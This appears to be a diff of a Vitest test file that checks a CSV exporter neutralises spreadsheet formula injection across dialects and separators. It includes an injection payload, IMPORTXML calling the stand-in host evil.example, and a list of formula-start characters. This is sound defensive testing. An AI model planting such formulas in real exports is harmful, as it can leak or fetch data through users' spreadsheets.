@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest';
-import { toCsv } from '../../../src/shared/csv.ts';
+import { CSV_DIALECTS, toCsv } from '../../../src/shared/csv.ts';
 
 /** Characters that begin a formula in a spreadsheet, in every spelling that reaches one (OWASP "CSV injection"). */
 const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－'];
@@ -10,19 +10,34 @@ const FORMULAS = [
   'IMPORTXML("https://evil.example","//a")',
 ];
 
+/** What a reader splits a line at, whatever the file says. */
+const SEPARATORS = [',', ';', '\t', '|', '\n', '"'];
+
 test('40 formulas leave as text, in any column, and each row keeps its cells (A9)', () => {
   const cells = STARTS.flatMap((start) => FORMULAS.map((formula) => `${start}${formula}`));
   expect(cells).toHaveLength(40);
-  for (const cell of cells) {
-    const quoted = `"'${cell.replaceAll('"', '""')}"`;
-    expect(
-      toCsv(
-        [cell, 'b'],
-        [
-          ['a', cell],
+  for (const dialect of CSV_DIALECTS)
+    for (const cell of cells) {
+      const quoted = `"'${cell.replaceAll('"', '""')}"`;
+      const row = (...written: string[]): string => `${written.join(dialect === 'comma' ? ';' : ',')}\r\n`;
+      expect(
+        toCsv(
+          dialect,
           [cell, 'b'],
-        ],
-      ),
-    ).toBe(`\uFEFF${quoted},b\r\na,${quoted}\r\n${quoted},b\r\n`);
-  }
+          [
+            ['a', cell],
+            [cell, 'b'],
+          ],
+        ),
+      ).toBe(`\uFEFF${row(quoted, '"b"')}${row('"a"', quoted)}${row(quoted, '"b"')}`);
+    }
+});
+
+test('a formula inside a text stays a text for a reader that splits elsewhere (A9)', () => {
+  for (const separator of SEPARATORS)
+    for (const start of STARTS.filter((one) => /\S/.test(one))) {
+      const csv = toCsv('point', ['Note'], [[`Table 4${separator}${start}1+1`]]);
+      for (const other of SEPARATORS)
+        for (const part of csv.split(other)) expect(part.startsWith(start), JSON.stringify(part)).toBe(false);
+    }
 });
